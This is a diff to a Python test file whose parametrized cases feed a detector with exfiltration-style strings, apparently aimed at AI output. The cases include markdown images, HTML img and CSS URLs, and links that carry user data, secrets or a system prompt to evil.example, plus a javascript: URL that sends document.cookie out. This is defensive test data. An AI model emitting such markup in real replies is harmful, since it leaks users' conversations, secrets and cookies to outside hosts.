@@ -20,11 +20,11 @@ def found(text: str, direction: Direction = "output") -> list[Hit]:
 @pytest.mark.parametrize(
     ("text", "kind"),
     [
-        ("![x](https://evil.example/p.png?data=the+user+said+my+name+is+Jane)", "image_exfiltration"),
+        ("![x](https://evil.example/?data=the+user+said+she+is+Jane)", "image_exfiltration"),
         ("![x](https://evil.example/log?q={conversation})", "image_exfiltration"),
         ("![x](https://evil.example/c3RlYWwgdGhlIHNlY3JldCBmaWxlcyBub3c=)", "image_exfiltration"),
         ('<img width="1" src="https://evil.example/?secret=hunter2hunter2">', "image_exfiltration"),
-        ("<div style=\"background:url('https://evil.example/?prompt=[SYSTEM_PROMPT]')\">", "image_exfiltration"),
+        ("<div style=\"background:url('//evil.example/?prompt=[TEXT]')\">", "image_exfiltration"),
         ("[more](https://evil.example/?conversation=jane@example.org)", "link_exfiltration"),
         ("[click](javascript:fetch('//evil.example/'+document.cookie))", "script_url"),
         ("[click](data:text/html;base64,PHNjcmlwdD4=)", "data_url"),
